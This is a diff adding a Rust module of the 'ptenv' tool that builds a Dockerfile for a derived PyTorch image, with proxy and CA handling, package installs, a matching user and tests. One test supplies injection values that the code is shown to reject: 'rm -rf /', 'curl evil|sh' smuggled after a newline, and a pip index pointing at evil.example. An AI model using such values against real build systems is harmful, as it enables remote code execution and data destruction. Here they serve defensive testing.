@@ -1,0 +1,617 @@
+//! The derived image's recipe: the Dockerfile ptenv builds on top of the selected base image,
+//! and its deterministic tag. Pure: text in, text out.
+//!
+//! The official images have no Jupyter and no sshd and run as root. The derived image adds the
+//! mode's tools (skipped when the base has them: the checks run inside the build), the
+//! profile's extra apt/pip packages, and a user whose UID/GID match the host user, with
+//! passwordless sudo unless the profile says `sudo: false`. The image's default user stays root: sshd needs it, and the other modes
+//! set the container's user at create time.
+//!
+//! Corporate networks: the proxy variables are Docker's predefined build args (`HTTP_PROXY`,
+//! `HTTPS_PROXY`, `NO_PROXY`, `FTP_PROXY`, `ALL_PROXY`, upper and lower case), which the builder
+//! passes to every `RUN` without declaring them and never records in the image's history. The
+//! CA bundle and the pip index have no such mechanism in the classic builder (Engine 20.10 has
+//! no secret mounts), so they come in as build args that only the single `RUN` consumes: the CA
+//! is written to /tmp, used by apt and pip, and deleted within that same `RUN`, so no layer's
+//! file system ever contains it, and the index URL lives only in that `RUN`'s environment.
+//! Build args travel in the request's URL, which is limited to 64 KiB: a whole system bundle
+//! (200 KiB) does not fit, so only the certificates the base image's own bundle lacks are sent
+//! (usually the one corporate root), and the `RUN` appends them to the image's bundle.
+//! Trade-off: the classic builder records the values of declared build args in the image's
+//! history (`docker history --no-trunc`). For a public CA bundle that is harmless; an index URL
+//! with a password in it would be visible there, so ptenv tells the user when it passes one
+//! (see `build::Network::warnings`). The derived image is local and never pushed.
+
+use sha2::{Digest, Sha256};
+
+use crate::error::{Error, Result};
+use crate::identity::User;
+use crate::modes::ContainerFile;
+use crate::package_name::{check_apt, check_pip};
+use crate::profile::{Mode, Packages};
+use crate::project::{hex, slug};
+
+/// JupyterLab settings ptenv's Jupyter images start with: no news pop-up, no update check.
+pub const JUPYTERLAB_OVERRIDES: &str = r#"{"@jupyterlab/apputils-extension:notification": {"fetchNews": "false", "checkForUpdates": false}}"#;
+
+/// The build arg that carries the PEM certificates the base image does not trust yet.
+pub const CA_ARG: &str = "PTENV_CA_PEM";
+/// Set (to `1`) when a CA bundle is in use, even if the base image already has all of its
+/// certificates: pip then still needs to be pointed at the system bundle (it trusts certifi's).
+pub const CA_FLAG: &str = "PTENV_CA";
+/// Where Debian and Ubuntu (the bases of the official images) keep the system bundle.
+pub const SYSTEM_BUNDLE: &str = "/etc/ssl/certs/ca-certificates.crt";
+/// The pip settings that reach the build as build args (pip reads them from the environment).
+pub const PIP_ARGS: [&str; 3] = ["PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST"];
+/// Docker's predefined build args: passed through without `ARG`, never in the history.
+pub const PROXY_ARGS: [&str; 10] = [
+    "HTTP_PROXY",
+    "http_proxy",
+    "HTTPS_PROXY",
+    "https_proxy",
+    "NO_PROXY",
+    "no_proxy",
+    "FTP_PROXY",
+    "ftp_proxy",
+    "ALL_PROXY",
+    "all_proxy",
+];
+
+/// What the derived image is made of.
+#[derive(Debug, Clone)]
+pub struct Recipe<'a> {
+    /// The base image reference, e.g. `pytorch/pytorch:2.6.0-cuda12.4-cudnn9-runtime`.
+    pub base: &'a str,
+    /// The base image's ID (`sha256:…`): a re-pulled tag gives a new derived image.
+    pub base_id: &'a str,
+    /// The base image's configured user (`Config.User`), when known: a `USER root` line is
+    /// needed only when it is not root already.
+    pub base_user: Option<&'a str>,
+    pub mode: Mode,
+    pub packages: &'a Packages,
+    pub user: &'a User,
+    /// Passwordless sudo for the user (the profile's `sudo`).
+    pub sudo: bool,
+}
+
+impl Recipe<'_> {
+    /// `ptenv/<base tag>-<hash>`: the same base image and inputs give the same tag, so a second
+    /// `up` finds the image and builds nothing.
+    pub fn tag(&self) -> Result<String> {
+        let mut h = Sha256::new();
+        h.update(self.base_id.as_bytes());
+        h.update(b"\n");
+        h.update(self.dockerfile()?.as_bytes());
+        let hash = hex(&h.finalize());
+        let (repo, tag) = crate::registry::reference::split_reference(self.base);
+        // A locked base (`repo@sha256:…`) is named by its short digest.
+        let tag = tag
+            .strip_prefix("sha256:")
+            .map_or(tag, |hex| &hex[..hex.len().min(12)]);
+        let name = repo.rsplit('/').next().unwrap_or(repo);
+        let base = slug(&format!("{name}-{tag}"));
+        Ok(format!("ptenv/{base}-{}", &hash[..12]))
+    }
+
+    /// The Dockerfile. One `RUN`, so the CA bundle is created and deleted in the same layer.
+    /// Commands are joined with `;` under `set -e`, never `&&`: a failure inside an `&&` list
+    /// does not stop the shell, and a missing package would pass unnoticed.
+    ///
+    /// Package names reach apt-get and pip as quoted words collected in the positional
+    /// parameters and passed after `--`: never split by the shell, never read as options.
+    /// Every text from outside (a profile, the base's name) is checked here once more, so no
+    /// newline can end the `RUN` line and start an instruction of its own.
+    pub fn dockerfile(&self) -> Result<String> {
+        self.check()?;
+        let u = self.user;
+        let mut apt: Vec<String> = Vec::new();
+        if self.sudo {
+            apt.push("sudo".into());
+        }
+        apt.extend(self.packages.apt.iter().cloned());
+        let mut script = vec![
+            "set -e".to_string(),
+            // The image's own environment, for root's login shells where no command of root's
+            // rewrites it at start (Jupyter and the shell start as the user): without the
+            // build's args, which may carry a CA, a proxy or an index URL with a password.
+            format!(
+                "ptenv_env=$(unset {CA_FLAG} {CA_ARG} {} {} {}; export -p)",
+                PIP_ARGS.join(" "),
+                PROXY_ARGS.join(" "),
+                crate::modes::LOCAL_VARIABLES
+            ),
+            // The CA bundle (when given) for apt, pip and anything using OpenSSL.
+            // The image's own system bundle plus the certificates it lacks.
+            format!(
+                "if [ -n \"${CA_FLAG}\" ]; then {{ cat {SYSTEM_BUNDLE} 2>/dev/null || true; \
+                 printf '%s\\n' \"${CA_ARG}\"; }} > /tmp/ptenv-ca.pem; \
+                 export PIP_CERT=/tmp/ptenv-ca.pem SSL_CERT_FILE=/tmp/ptenv-ca.pem \
+                 REQUESTS_CA_BUNDLE=/tmp/ptenv-ca.pem; \
+                 APT_CA='-o Acquire::https::CAInfo=/tmp/ptenv-ca.pem'; else APT_CA=''; fi"
+            ),
+            // apt packages not yet installed, collected in the positional parameters; sshd
+            // only when the base has none.
+            "set --".to_string(),
+        ];
+        if !apt.is_empty() {
+            script.push(format!(
+                "for p in {}; do dpkg -s -- \"$p\" >/dev/null 2>&1 || set -- \"$@\" \"$p\"; done",
+                apt.iter()
+                    .map(|p| crate::shell::single_quoted(p))
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            ));
+        }
+        if self.mode == Mode::Ssh {
+            script.push(
+                "command -v sshd >/dev/null 2>&1 || [ -x /usr/sbin/sshd ] || set -- \"$@\" openssh-server"
+                    .into(),
+            );
+        }
+        script.push(
+            "if [ $# -gt 0 ]; then apt-get $APT_CA update -q \
+             ; DEBIAN_FRONTEND=noninteractive apt-get $APT_CA install -y -q --no-install-recommends -- \"$@\" \
+             ; rm -rf /var/lib/apt/lists/*; fi"
+                .into(),
+        );
+        if self.mode == Mode::Ssh {
+            // sshd refuses to start without its privilege-separation folder.
+            script.push("mkdir -p /run/sshd".into());
+        }
+        // pip packages go into the image's own python, so notebooks and scripts see torch.
+        let mut pip_checks: Vec<(String, String)> = Vec::new();
+        if self.mode == Mode::Jupyter {
+            pip_checks.push(("jupyterlab".into(), "jupyterlab".into()));
+            pip_checks.push(("ipykernel".into(), "ipykernel".into()));
+        }
+        if !pip_checks.is_empty() || !self.packages.pip.is_empty() {
+            script.push(
+                "PY=$(command -v python3 || command -v python || true); \
+                 if [ -z \"$PY\" ]; then echo 'ptenv: the base image has no python' >&2; exit 1; fi"
+                    .into(),
+            );
+            // The packages collect in the positional parameters: a string of quoted words
+            // would reach pip with the quotes still on (`Invalid requirement: "'jupyterlab'"`).
+            script.push("set --".into());
+            for (module, package) in &pip_checks {
+                script.push(format!(
+                    "\"$PY\" -c 'import {module}' >/dev/null 2>&1 || set -- \"$@\" {}",
+                    crate::shell::single_quoted(package)
+                ));
+            }
+            for p in &self.packages.pip {
+                script.push(format!("set -- \"$@\" {}", crate::shell::single_quoted(p)));
+            }
+            script.push(
+                "if [ $# -gt 0 ]; then \"$PY\" -m pip install --no-cache-dir -q -- \"$@\"; fi"
+                    .into(),
+            );
+        }
+        if self.mode == Mode::Jupyter {
+            // JupyterLab's first screen asks whether to fetch Jupyter's news and checks for
+            // updates over the network; neither belongs in a project's environment. Defaults
+            // for every user go in `<sys.prefix>/share/jupyter/lab/settings/overrides.json`
+            // (JupyterLab's documented place); an image that has one keeps it.
+            script.push(format!(
+                "d=$(\"$PY\" -c 'import sys; print(sys.prefix)')/share/jupyter/lab/settings; \
+                 mkdir -p \"$d\"; [ -e \"$d/overrides.json\" ] || printf '%s\\n' {} > \"$d/overrides.json\"",
+                crate::shell::single_quoted(JUPYTERLAB_OVERRIDES)
+            ));
+        }
+        // The user: reuse a group or user that already has the IDs (e.g. `ubuntu` 1000 in
+        // newer Ubuntu bases), renamed, so files in /workspace show the host user's IDs. A
+        // group or user that has the name but other IDs (a team's base image, or an image
+        // ptenv derived for another user) is given the IDs; a user of that name in the way of
+        // a rename keeps its files under the name `<name>-base`.
+        script.push(format!(
+            "getent group {gid} >/dev/null || \
+             if getent group {name} >/dev/null; then groupmod -g {gid} {name}; else groupadd -g {gid} {name}; fi",
+            gid = u.gid,
+            name = u.name
+        ));
+        script.push(format!(
+            "old=$(getent passwd {uid} | cut -d: -f1); \
+             if [ -z \"$old\" ]; then \
+             if getent passwd {name} >/dev/null; then usermod -u {uid} -g {gid} -d {home} -s /bin/bash {name}; \
+             mkdir -p {home}; chown {uid}:{gid} {home}; \
+             else useradd -m -u {uid} -g {gid} -s /bin/bash -d {home} {name}; fi; \
+             elif [ \"$old\" != {name} ]; then \
+             if getent passwd {name} >/dev/null; then usermod -l {name}-base {name}; fi; \
+             usermod -l {name} -d {home} -m -g {gid} -s /bin/bash \"$old\"; fi",
+            uid = u.uid,
+            gid = u.gid,
+            name = u.name,
+            home = u.home
+        ));
+        if self.sudo {
+            script.push(format!(
+                "echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ptenv; chmod 0440 /etc/sudoers.d/ptenv",
+                name = u.name
+            ));
+        } else {
+            // No sudo: neither ptenv's rule nor the admin groups a reused base user may be in.
+            script.push(format!(
+                "rm -f /etc/sudoers.d/ptenv; for g in sudo admin wheel; do \
+                 if id -nG {name} | tr ' ' '\\n' | grep -qx \"$g\"; then gpasswd -d {name} \"$g\" >/dev/null; fi; done",
+                name = u.name
+            ));
+        }
+        // ptenv's own files for every container of the image (see `modes::image_files`).
+        for f in crate::modes::image_files(u) {
+            script.push(write_file(&f));
+        }
+        script.push(format!(
+            "printf '%s\\n' \"$ptenv_env\" > {}",
+            crate::modes::ENVIRONMENT_FILE
+        ));
+        script.push("rm -f /tmp/ptenv-ca.pem".into());
+
+        let mut out = String::new();
+        out.push_str(&format!(
+            "# Generated by ptenv: {base} with the {mode} tools, the profile's packages and the user {name} ({uid}:{gid}).\n",
+            base = self.base,
+            mode = self.mode,
+            name = u.name,
+            uid = u.uid,
+            gid = u.gid
+        ));
+        out.push_str(&format!("FROM {}\n", self.base));
+        // Few instructions: the classic builder commits an image for each one, and on engines
+        // whose storage driver has no native diff (fuse-overlayfs, rootless setups) each commit
+        // walks the whole image, 20 s for a 6 GB base. One `ARG` line declares them all.
+        let root = |u: &str| matches!(u.split(':').next(), Some("" | "root" | "0"));
+        if !self.base_user.is_some_and(root) {
+            out.push_str("USER root\n");
+        }
+        out.push_str(&format!("ARG {CA_FLAG} {CA_ARG} {}\n", PIP_ARGS.join(" ")));
+        out.push_str("RUN ");
+        out.push_str(&script.join(" ; \\\n    "));
+        out.push('\n');
+        Ok(out)
+    }
+
+    /// The recipe's texts from outside: package names as the profile's reader checks them,
+    /// and nothing with a line break or another control character.
+    fn check(&self) -> Result<()> {
+        let bad = |what: &str, value: &str, why: String| {
+            Error::new(format!(
+                "cannot write the derived image's Dockerfile: {what} {value:?} {why}"
+            ))
+            .hint("fix the profile (ptenv.yaml or ~/.config/ptenv/config.yaml) and run the command again")
+        };
+        for p in &self.packages.apt {
+            check_apt(p).map_err(|m| bad("the apt package", p, m))?;
+        }
+        for p in &self.packages.pip {
+            check_pip(p).map_err(|m| bad("the pip package", p, m))?;
+        }
+        let texts = [
+            ("the base image", self.base),
+            ("the base image's ID", self.base_id),
+            ("the base image's user", self.base_user.unwrap_or("")),
+            ("the user name", &self.user.name),
+            ("the user's home", &self.user.home),
+        ];
+        for (what, value) in texts {
+            if value.chars().any(char::is_control) {
+                return Err(bad(what, value, "contains a control character".into()));
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Shell code that writes `f` with its mode and owner, on one line of the Dockerfile: each
+/// line of the file is one quoted `printf` argument, so the Dockerfile stays readable.
+fn write_file(f: &ContainerFile) -> String {
+    let path = crate::shell::single_quoted(&f.path);
+    let dir = crate::shell::single_quoted(f.path.rsplit_once('/').map_or("/", |(d, _)| d));
+    let text = String::from_utf8_lossy(&f.contents);
+    let lines = |t: &str| {
+        t.split('\n')
+            .map(crate::shell::single_quoted)
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    let write = if text.is_empty() {
+        format!(": > {path}")
+    } else if let Some(body) = text.strip_suffix('\n') {
+        format!("printf '%s\\n' {} > {path}", lines(body))
+    } else if let Some((body, last)) = text.rsplit_once('\n') {
+        // No newline at the end: the last line is printed without one.
+        let last = crate::shell::single_quoted(last);
+        format!(
+            "{{ printf '%s\\n' {}; printf '%s' {last}; }} > {path}",
+            lines(body)
+        )
+    } else {
+        format!(
+            "printf '%s' {} > {path}",
+            crate::shell::single_quoted(&text)
+        )
+    };
+    format!(
+        "mkdir -p {dir}; {write}; chown {}:{} {path}; chmod {:o} {path}",
+        f.uid, f.gid, f.mode
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn recipe<'a>(mode: Mode, packages: &'a Packages, user: &'a User) -> Recipe<'a> {
+        Recipe {
+            base: "127.0.0.1:5000/ptenv-fixture/pytorch:2.6.0-cuda12.4-cudnn9-runtime",
+            base_id: "sha256:abc",
+            base_user: None,
+            mode,
+            packages,
+            user,
+            sudo: true,
+        }
+    }
+
+    #[test]
+    fn the_tag_is_deterministic_and_follows_every_input() {
+        let none = Packages::default();
+        let user = User::for_ids(1234, 1300);
+        let r = recipe(Mode::Shell, &none, &user);
+        let tag = r.tag().unwrap();
+        assert!(
+            tag.starts_with("ptenv/pytorch-2-6-0-cuda12-4-cudnn9-runtime-"),
+            "{tag}"
+        );
+        assert_eq!(tag, recipe(Mode::Shell, &none, &user).tag().unwrap());
+        let other_base = Recipe {
+            base_id: "sha256:def",
+            ..r.clone()
+        };
+        assert_ne!(other_base.tag().unwrap(), tag);
+        assert_ne!(recipe(Mode::Jupyter, &none, &user).tag().unwrap(), tag);
+        let pkgs = Packages {
+            apt: vec!["git".into()],
+            pip: vec![],
+        };
+        assert_ne!(recipe(Mode::Shell, &pkgs, &user).tag().unwrap(), tag);
+        assert_ne!(
+            recipe(Mode::Shell, &none, &User::for_ids(0, 0))
+                .tag()
+                .unwrap(),
+            tag
+        );
+        // A locked base by digest: its short digest in the name.
+        let locked = Recipe {
+            base: "127.0.0.1:5000/ptenv-fixture/pytorch@sha256:9f3c1a2b3c4d5e6f00112233445566778899aabbccddeeff0011223344556677",
+            ..r.clone()
+        };
+        assert!(
+            locked
+                .tag()
+                .unwrap()
+                .starts_with("ptenv/pytorch-9f3c1a2b3c4d-"),
+            "{}",
+            locked.tag().unwrap()
+        );
+    }
+
+    #[test]
+    fn modes_add_their_tools_only_when_missing() {
+        let none = Packages::default();
+        let user = User::for_ids(1234, 1300);
+        let j = recipe(Mode::Jupyter, &none, &user).dockerfile().unwrap();
+        assert!(
+            j.contains("import jupyterlab' >/dev/null 2>&1 || set -- \"$@\" 'jupyterlab'"),
+            "{j}"
+        );
+        assert!(j.contains("import ipykernel"));
+        assert!(!j.contains("openssh-server"));
+        let s = recipe(Mode::Ssh, &none, &user).dockerfile().unwrap();
+        assert!(s.contains("command -v sshd"));
+        assert!(s.contains("openssh-server"));
+        assert!(s.contains("mkdir -p /run/sshd"));
+        let sh = recipe(Mode::Shell, &none, &user).dockerfile().unwrap();
+        assert!(!sh.contains("pip install"));
+        assert!(sh.contains("useradd -m -u 1234 -g 1300 -s /bin/bash -d /home/dev dev"));
+        assert!(sh.contains("dev ALL=(ALL) NOPASSWD:ALL"));
+        assert!(sh.starts_with("# Generated by ptenv"));
+        assert!(sh.contains(
+            "\nFROM 127.0.0.1:5000/ptenv-fixture/pytorch:2.6.0-cuda12.4-cudnn9-runtime\n"
+        ));
+    }
+
+    #[test]
+    fn the_ca_is_made_and_removed_in_one_run_and_packages_are_quoted() {
+        let pkgs = Packages {
+            apt: vec!["git".into()],
+            pip: vec!["numpy>=2".into(), "pywin32; os_name == 'nt'".into()],
+        };
+        let user = User::for_ids(1000, 1000);
+        let d = recipe(Mode::Shell, &pkgs, &user).dockerfile().unwrap();
+        assert_eq!(d.matches("\nRUN ").count(), 1, "{d}");
+        assert!(
+            !d.contains("&&"),
+            "`set -e` ignores failures inside && lists: {d}"
+        );
+        let run = d.split("\nRUN ").nth(1).unwrap();
+        // Root's environment file gets the image's environment, never a build arg.
+        let saved = run
+            .split(" ; \\\n    ")
+            .find(|c| c.starts_with("ptenv_env=$(unset "))
+            .unwrap();
+        for arg in [CA_FLAG, CA_ARG].iter().chain(&PIP_ARGS).chain(&PROXY_ARGS) {
+            assert!(saved.contains(&format!(" {arg} ")), "{arg}: {saved}");
+        }
+        assert!(
+            run.contains("printf '%s\\n' \"$ptenv_env\" > /etc/ptenv/environment"),
+            "{run}"
+        );
+        assert!(run.contains("> /tmp/ptenv-ca.pem"));
+        assert!(run.trim_end().ends_with("rm -f /tmp/ptenv-ca.pem"));
+        assert!(d.contains("for p in 'sudo' 'git'; do"));
+        assert!(d.contains("set -- \"$@\" 'numpy>=2'"));
+        assert!(d.contains("set -- \"$@\" 'pywin32; os_name == '\\''nt'\\'''"));
+        assert!(d.contains(
+            "\nARG PTENV_CA PTENV_CA_PEM PIP_INDEX_URL PIP_EXTRA_INDEX_URL PIP_TRUSTED_HOST\n"
+        ));
+        assert!(
+            !d.lines()
+                .any(|l| l.starts_with("ARG ") && l.contains("HTTP_PROXY")),
+            "proxies are predefined build args"
+        );
+    }
+
+    #[test]
+    fn package_names_reach_apt_and_pip_as_single_words_after_double_dash() {
+        let pkgs = Packages {
+            apt: vec!["git".into(), "libc6:amd64=2.36-9".into()],
+            pip: vec!["numpy >= 2".into()],
+        };
+        let user = User::for_ids(1000, 1000);
+        let d = recipe(Mode::Ssh, &pkgs, &user).dockerfile().unwrap();
+        assert!(
+            d.contains("for p in 'sudo' 'git' 'libc6:amd64=2.36-9'; do dpkg -s -- \"$p\" >/dev/null 2>&1 || set -- \"$@\" \"$p\"; done"),
+            "{d}"
+        );
+        assert!(d.contains("|| set -- \"$@\" openssh-server"), "{d}");
+        assert!(
+            d.contains("install -y -q --no-install-recommends -- \"$@\""),
+            "{d}"
+        );
+        assert!(!d.contains("$need"), "no word-split list of names: {d}");
+        assert!(d.contains("set -- \"$@\" 'numpy >= 2'"), "{d}");
+        assert!(d.contains("pip install --no-cache-dir -q -- \"$@\""), "{d}");
+    }
+
+    #[test]
+    fn hostile_texts_never_reach_the_dockerfile() {
+        let user = User::for_ids(1000, 1000);
+        for (apt, pip) in [
+            ("--allow-unauthenticated", "numpy"),
+            ("foo; rm -rf /", "numpy"),
+            ("a\nRUN curl evil|sh", "numpy"),
+            ("git", "-e git+https://evil.example/x.git"),
+            ("git", "--index-url=http://evil"),
+            ("git", "a\nRUN curl evil|sh"),
+        ] {
+            let pkgs = Packages {
+                apt: vec![apt.into()],
+                pip: vec![pip.into()],
+            };
+            let r = recipe(Mode::Shell, &pkgs, &user);
+            let e = r.dockerfile().unwrap_err().to_string();
+            let bad = if apt == "git" { pip } else { apt };
+            assert!(e.contains(&format!("{bad:?}")), "{e}");
+            assert!(r.tag().is_err());
+        }
+        let none = Packages::default();
+        let mut evil = User::for_ids(1000, 1000);
+        evil.name = "dev\nRUN curl evil|sh".into();
+        let e = recipe(Mode::Shell, &none, &evil).dockerfile().unwrap_err();
+        assert!(e.to_string().contains("the user name"), "{e}");
+        let base = Recipe {
+            base: "pytorch/pytorch:2.6\nRUN id",
+            ..recipe(Mode::Shell, &none, &user)
+        };
+        assert!(base.dockerfile().is_err());
+    }
+
+    #[test]
+    fn sudo_false_installs_no_sudo_and_grants_none() {
+        let none = Packages::default();
+        let user = User::for_ids(1000, 1000);
+        let off = Recipe {
+            sudo: false,
+            ..recipe(Mode::Shell, &none, &user)
+        };
+        let d = off.dockerfile().unwrap();
+        assert!(!d.contains("NOPASSWD"), "{d}");
+        assert!(!d.contains("'sudo'"), "{d}");
+        assert!(d.contains("rm -f /etc/sudoers.d/ptenv"), "{d}");
+        assert!(d.contains("gpasswd -d dev"), "{d}");
+        assert_ne!(
+            off.tag().unwrap(),
+            recipe(Mode::Shell, &none, &user).tag().unwrap()
+        );
+    }
+
+    #[test]
+    fn ptenv_s_files_are_baked_in_with_their_bytes_mode_and_owner() {
+        let none = Packages::default();
+        let user = User::for_ids(1234, 1300);
+        let d = recipe(Mode::Shell, &none, &user).dockerfile().unwrap();
+        for f in crate::modes::image_files(&user) {
+            assert!(d.contains(&write_file(&f)), "{} in {d}", f.path);
+        }
+        // The Dockerfile parser sees one RUN: no line of a file starts a line of its own.
+        assert_eq!(d.matches("\nRUN ").count(), 1, "{d}");
+
+        // The shell code writes exactly the bytes, run by a real shell.
+        let dir = tempfile::tempdir().unwrap();
+        // The IDs this process makes files with, so that the shell may chown to them.
+        let (uid, gid) = {
+            use std::os::unix::fs::MetadataExt;
+            let meta = std::fs::metadata(dir.path()).unwrap();
+            (meta.uid(), meta.gid())
+        };
+        let texts: [&[u8]; 6] = [
+            b"",
+            b"one line\n",
+            b"#!/bin/sh\n\n  it's \"$@\" 100% \\n $HOME `x`\nexec \"$@\"\n",
+            b"no newline at the end",
+            b"two\nlines, no newline",
+            b"\n\n",
+        ];
+        for (i, text) in texts.iter().enumerate() {
+            let path = dir.path().join(format!("sub/f{i}"));
+            let f = ContainerFile {
+                path: path.display().to_string(),
+                contents: text.to_vec(),
+                mode: 0o640,
+                uid,
+                gid,
+            };
+            let out = std::process::Command::new("/bin/sh")
+                .args(["-c", &format!("set -e; {}", write_file(&f))])
+                .output()
+                .unwrap();
+            assert!(
+                out.status.success(),
+                "{}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+            assert_eq!(std::fs::read(&path).unwrap(), *text, "file {i}");
+            use std::os::unix::fs::PermissionsExt;
+            let mode = std::fs::metadata(&path).unwrap().permissions().mode();
+            assert_eq!(mode & 0o777, 0o640);
+        }
+    }
+
+    #[test]
+    fn user_root_only_when_the_base_runs_as_someone_else() {
+        let none = Packages::default();
+        let user = User::for_ids(1000, 1000);
+        let with = |base_user| {
+            Recipe {
+                base_user,
+                ..recipe(Mode::Shell, &none, &user)
+            }
+            .dockerfile()
+            .unwrap()
+        };
+        for root in ["", "root", "0", "0:0", "root:root"] {
+            assert!(!with(Some(root)).contains("\nUSER "), "{root:?}");
+        }
+        assert!(with(Some("jovyan")).contains("\nUSER root\n"));
+        assert!(with(Some("1000:100")).contains("\nUSER root\n"));
+        // Unknown (a Compose export without the engine): say it.
+        assert!(with(None).contains("\nUSER root\n"));
+        // FROM, ARG, RUN: two committed steps for an official image.
+        let d = with(Some(""));
+        let instructions = d
+            .lines()
+            .filter(|l| l.starts_with(char::is_uppercase))
+            .count();
+        assert_eq!(instructions, 3, "{d}");
+    }
+}
